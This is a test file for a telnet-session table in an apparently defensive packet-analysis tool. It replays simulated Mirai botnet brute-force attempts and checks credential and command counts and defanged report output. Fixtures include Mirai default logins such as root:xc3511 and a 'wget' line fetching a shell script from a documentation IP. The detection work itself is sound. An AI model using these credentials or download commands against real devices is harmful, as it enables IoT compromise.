import { describe, expect, it } from "vitest";
import { bytes, session } from "../detect/campaign-fixture.js";
import { Detection } from "../detect/setup.js";
import type { AnalysisReport } from "../schema/report.js";
import { renderReport } from "../serve/terminal.js";
import {
  MIRAI_CREDENTIALS,
  TELNET_ANSWERS,
  TELNET_BANNER,
  TELNET_COMMANDS,
  TELNET_INCORRECT,
  TELNET_LOGIN,
  TELNET_MIRAI_IAC,
  TELNET_PASSWORD,
  TELNET_SENSOR_IAC,
} from "../simulate/payloads.js";
import { TelnetTable } from "./telnet-table.js";

const cat = (...parts: Array<string | Uint8Array>): Uint8Array =>
  Buffer.concat(parts.map((p) => bytes(p)));

/** A Mirai attempt from `src` with credential `k`, as the simulator writes it. */
function mirai(src: string, k: number, accepted: boolean, extra = "") {
  const [u, p] = MIRAI_CREDENTIALS[k] as readonly [Uint8Array, Uint8Array];
  return session({
    src,
    dport: 23,
    client: cat(TELNET_MIRAI_IAC, u, p, ...(accepted ? TELNET_COMMANDS : []), extra),
    server: accepted
      ? cat(TELNET_SENSOR_IAC, TELNET_LOGIN, TELNET_PASSWORD, TELNET_BANNER, ...TELNET_ANSWERS)
      : cat(TELNET_SENSOR_IAC, TELNET_LOGIN, TELNET_PASSWORD, TELNET_INCORRECT),
  });
}

describe("TelnetTable", () => {
  it("counts pairs and commands, most sources first", () => {
    const t = new TelnetTable();
    t.add(mirai("192.0.2.1", 0, true));
    t.add(mirai("192.0.2.1", 0, false));
    t.add(mirai("192.0.2.2", 0, false));
    t.add(mirai("192.0.2.3", 1, false));
    t.add(mirai("192.0.2.3", 1, false));
    t.add(mirai("192.0.2.3", 1, false));
    const r = t.report();
    expect(r.sessions).toBe(6);
    expect(r.credentials).toEqual([
      { user: "root", password: "xc3511", count: 3, sources: 2 },
      { user: "root", password: "vizxv", count: 3, sources: 1 },
    ]);
    expect(r.commands.map((c) => c.command)).toEqual([
      "/bin/busybox ECCHI",
      "enable",
      "sh",
      "shell",
      "system",
    ]);
    expect(r.commands[0]).toEqual({ command: "/bin/busybox ECCHI", count: 1, sources: 1 });
    expect(t.report(1).credentials).toHaveLength(1);
  });

  it("forgets rare rows when full and keeps sources a floor past its budget", () => {
    const t = new TelnetTable(8, 3);
    for (let i = 0; i < 5; i++) t.add(mirai(`192.0.2.${i + 1}`, 0, false));
    for (let k = 1; k < 30; k++) t.add(mirai("198.51.100.1", k, false));
    const r = t.report(100);
    expect(r.credentials.length).toBeLessThanOrEqual(8);
    expect(t.dropped).toBeGreaterThan(0);
    expect(r.credentials[0]).toEqual({ user: "root", password: "xc3511", count: 5, sources: 3 });
  });

  it("is filled by the detection stage from sessions templated as telnet", () => {
    const d = new Detection({ rules: [], defaultRules: false, families: [], surges: false });
    d.stage.session(mirai("192.0.2.9", 3, true, "wget http://198.51.100.7/bins.sh\r\n"));
    d.stage.session(session({ client: "GET / HTTP/1.1\r\n\r\n", dport: 80 }));
    const r = d.finish().telnet;
    expect(r.sessions).toBe(1);
    expect(r.credentials).toEqual([{ user: "admin", password: "admin", count: 1, sources: 1 }]);
    expect(r.commands.map((c) => c.command)).toContain("wget http://198.51.100.7/bins.sh");
  });

  it("renders a TELNET section with attacker bytes escaped and URLs defanged", () => {
    const t = new TelnetTable();
    t.add(mirai("192.0.2.9", 0, true, "wget http://198.51.100.7/x\x1b[2J\r\n"));
    const report = {
      version: 1,
      generator: { name: "portent", version: "0", fingerprintVersion: 1 },
      input: {
        files: ["x.pcap"],
        packets: 1,
        bytes: 1,
        start: null,
        end: null,
        anomalies: {},
        anomalyFirst: {},
        details: [],
        nonIp: 0,
      },
      hoursStart: null,
      bucketSeconds: 3600,
      ports: [],
      fingerprints: [],
      topSources: [],
      streams: { sessions: 1, probes: 0, flowsEvicted: 0, httpSessions: 0 },
      alerts: [],
      surges: [],
      campaigns: [],
      iocs: [],
      telnet: t.report(),
    } satisfies AnalysisReport;
    const text = renderReport(report);
    expect(text).toContain("TELNET");
    expect(text).toMatch(/ {7}1 {8}1 {2}root:xc3511\n/);
    expect(text).toContain("wget hxxp://198.51.100[.]7/x\\x1b[2J");
    expect(text).not.toContain("\x1b");
    expect(
      renderReport({ ...report, telnet: { sessions: 0, credentials: [], commands: [] } }),
    ).not.toContain("TELNET");
  });
});
